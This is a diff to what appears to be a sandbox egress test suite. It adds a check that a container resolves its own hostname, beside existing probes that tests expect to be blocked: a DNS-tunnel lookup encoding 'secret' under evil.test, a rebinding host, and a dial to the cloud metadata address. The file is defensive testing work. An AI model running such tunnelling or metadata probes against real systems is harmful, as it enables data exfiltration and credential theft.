@@ -46,6 +46,7 @@ const dial = (host, port) => settle(new Promise((resolve, reject) => {
     literal: await get('http://10.20.0.1:${worldPort}/'),
     otherPort: await dial('api.allowed.test', 443),
     otherName: await get('http://evil.test:${worldPort}/'),
+    itself: await name(require('node:os').hostname()),
     tunnel: await name('c2VjcmV0.tunnel.evil.test'),
     rebind: await get('http://rebind.allowed.test:${worldPort}/'),
     metadata: await dial('169.254.169.254', ${worldPort}),
@@ -83,6 +84,7 @@ print('RESULT ' + json.dumps({
     'literal': get('http://10.20.0.1:${worldPort}/'),
     'otherPort': dial('api.allowed.test', 443),
     'otherName': get('http://evil.test:${worldPort}/'),
+    'itself': settle(lambda: socket.gethostbyname(socket.gethostname())),
     'tunnel': settle(lambda: socket.getaddrinfo('c2VjcmV0.tunnel.evil.test', 80)),
     'rebind': get('http://rebind.allowed.test:${worldPort}/'),
     'metadata': dial('169.254.169.254', ${worldPort}),
@@ -135,6 +137,7 @@ suite('egress of parts', { skip }, () => {
       assert.equal(report['wide'], 'served by 203.0.113.11', part)
       assert.equal(report['lan'], 'served by 10.20.0.1', part)
       assert.equal(report['literal'], 'served by 10.20.0.1', part)
+      assert.equal(report['itself'], '10.64.0.1', part)
       for (const what of ['otherName', 'tunnel', 'rebind']) assert.match(report[what] ?? '', noName, `${part} ${what}`)
       for (const what of ['otherPort', 'address', 'platform', 'metadata'])
         assert.match(report[what] ?? '', refused, `${part} ${what}`)
